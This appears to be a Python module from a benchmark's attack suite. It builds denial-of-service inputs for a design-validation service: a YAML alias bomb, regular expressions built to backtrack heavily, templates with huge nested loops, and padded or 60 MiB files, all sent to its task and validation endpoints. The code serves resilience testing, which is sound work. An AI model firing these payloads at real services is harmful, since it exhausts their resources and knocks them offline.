"""Hostile designs: alias bombs, expressions, templates without end, references that are huge."""

from __future__ import annotations

from itertools import count
from pathlib import Path

import httpx

from bench.attacks.answers import Answers

MIB = 1 << 20
numbers = count()

TEMPLATES = (
    "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
    "{{ 'x' * 999999999 }}",
    "{% for a in range(9999) %}{{ 'xxxxxxxx' * 9999 }}{% endfor %}",
    "{{ [0] * 99999999 }}",
)


def bomb() -> str:
    """312 KiB of documents, each below the limits of a document, all of aliases."""
    lines = ["---", "a: &a [x, x, x, x, x, x, x, x]"]
    for name, before in zip("bcd", "abc", strict=True):
        lines.append(f"{name}: &{name} [{', '.join([f'*{before}'] * 8)}]")
    one = "\n".join([*lines, "e: [*d, *d]"]) + "\n"
    return one * (312 * 1024 // len(one))


def expressions() -> str:
    """A profile of as many expressions as may be, each of many ``.*``."""
    aliases = "".join(
        f"    nic{n}: {{address: 'regexp:{'.*' * 18}{n}$', bus_type: pci}}\n" for n in range(64)
    )
    return f"""---
schema: drydock/HardwareProfile/v1
metadata: {{schema: metadata/Document/v1, name: hostile}}
data:
  device_aliases:
{aliases}"""


def template(text: str) -> str:
    return f"""---
schema: drydock/BootAction/v1
metadata: {{schema: metadata/Document/v1, name: hostile}}
data:
  signaling: false
  assets:
    - type: file
      path: /tmp/hostile
      permissions: '0600'
      data: |
        {text}
      data_pipeline: [utf8_decode, template]
"""


def written(folder: Path, text: str, *, pad_bytes: int = 0) -> str:
    """Write a design nobody has seen and return its reference; with a comment of `pad_bytes`."""
    number = next(numbers)
    path = folder / f"hostile-{number % 48}.yaml"
    line = b"# " + b"x" * 1021 + b"\n"
    with path.open("wb") as file:
        file.write(f"# {number}\n{text}".encode())
        file.write(line * (pad_bytes // len(line)))
    return f"file://{path}"


def huge(folder: Path, n: int) -> str:
    """Return one of some references of 60 MiB each, names of the same bytes."""
    bytes_of_all, path = folder / "huge.yaml", folder / f"huge-{n}.yaml"
    if not bytes_of_all.exists():
        bytes_of_all.write_bytes(b"# x\n" * (60 * MIB // 4))
    if not path.exists():
        path.hardlink_to(bytes_of_all)
    return f"file://{path}"


async def as_task(client: httpx.AsyncClient, reference: str, answers: Answers) -> str | None:
    """Ask for a task about the design; return its id when it was taken."""
    body = {"action": "validate_design", "design_ref": reference}
    answer = await client.post("/tasks", json=body)
    answers.count(answer.status_code)
    return str(answer.json()["task_id"]) if answer.status_code == 201 else None


async def as_validation(client: httpx.AsyncClient, reference: str, answers: Answers) -> None:
    """Ask for the design's verdict."""
    body = {"rel": "design", "href": reference, "type": "application/x-yaml"}
    answers.count((await client.post("/validatedesign", json=body)).status_code)
